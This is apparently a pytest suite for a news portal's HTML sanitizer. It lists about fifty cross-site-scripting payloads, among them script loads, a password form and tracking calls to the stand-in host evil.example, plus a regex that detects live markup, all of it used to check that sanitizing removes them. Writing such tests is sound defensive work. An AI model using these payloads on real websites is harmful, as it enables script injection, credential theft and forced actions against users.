"""What is left of hostile and of pasted HTML."""

import re

import pytest

from news.placing import beginning_of, place_pictures
from portal.web.richtext import clean

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=https://evil.example/track.gif>",
    "<img src=//evil.example/track.gif>",
    "<img src='/files/pictures/../../admin/logout/'>",
    "<img src='/admin/logout/'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img srcset='https://evil.example/a 1x' src='x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href='x' style='background:url(javascript:alert(1))'>x</a>",
    "<p style='background:url(https://evil.example/)'>x</p>",
    "<p onmouseover=alert(1)>x</p>",
    "<style>body{background:url(https://evil.example/)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--[if gte mso 9]><xml><o:x>1</o:x></xml><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=content class=article name=x>x</p>",
    "<table background=javascript:alert(1)><tr><td background=x>x</td></tr></table>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<xss onclick=alert(1) tabindex=1>x</xss>",
    "<td colspan='9999999999999' rowspan='-1'>x</td>",
]
LIVE = re.compile(
    r"<(script|style|iframe|object|embed|svg|math|form|input|button|select|link|meta|base|video|audio|template|xss)\b"
    r"|\son\w+=|javascript:|vbscript:|data:|\sstyle=|\sclass=|\sid=|evil\.example|srcset|/admin/",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_clean_leaves_nothing_alive(payload) -> None:
    cleaned = clean(f"<p>before</p>{payload}<p>after</p>")
    tags = "".join(re.findall(r"<[^>]*>", cleaned))
    assert LIVE.findall(tags) == []
    assert cleaned.startswith("<p>before</p>")


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("<p>a</p>", "<p>a</p>"),
        ("<h1>a</h1>", "<h2>a</h2>"),
        ("<p>\u3000\u3000a</p>", "<p>a</p>"),
        ("<p>&nbsp; a</p>", "<p>a</p>"),
        ("<p>&nbsp;</p><p><br></p><p>a</p>", "<p>a</p>"),
        ("<p class=MsoNormal style='text-indent:21pt'><span lang=EN-US>a</span><o:p></o:p></p>", "<p>a</p>"),
        ("<table><tbody><tr><td colspan=2>a</td></tr></tbody></table>",
         '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>'),
        ('<a href="https://example.cn/a">a</a>', '<a href="https://example.cn/a" rel="noopener noreferrer">a</a>'),
        ('<a href="/news/">a</a>', '<a href="/news/" rel="noopener noreferrer">a</a>'),
        ("a < b & c", "a &lt; b &amp; c"),
        ("", ""),
    ],
)  # fmt: skip
def test_clean_keeps_what_a_text_needs(typed, kept) -> None:
    assert clean(typed) == kept


@pytest.mark.parametrize("text", [*PAYLOADS, "<p>a</p>", "<h1>x</h1>"])
def test_clean_again_changes_nothing(text) -> None:
    assert clean(clean(text)) == clean(text)


def test_clean_keeps_pictures_of_our_own() -> None:
    source = "/files/pictures/0f8fad5b-d9cb-469f-a165-70867728950e/wide.webp"
    assert clean(f'<img src="{source}" alt="x" onload="y">') == f'<img src="{source}" alt="x">'


def test_clean_of_a_long_hostile_text_is_quick() -> None:
    assert len(clean("<p>&nbsp;" * 20_000)) < 400_000


def test_mark_without_picture_stays_as_typed() -> None:
    assert place_pictures("<p>[picture 1]</p><p>[图2]</p>", []) == "<p>[picture 1]</p><p>[图2]</p>"


def test_beginning_leaves_out_pictures_and_parts_blocks() -> None:
    table = "<table><tbody><tr><td>甲</td><td>A &amp; B</td></tr></tbody></table>"
    text = f"<p>第一段<strong>加粗</strong></p><p>[图1：会场]</p>{table}"
    assert beginning_of(text) == "第一段加粗 甲 A & B"
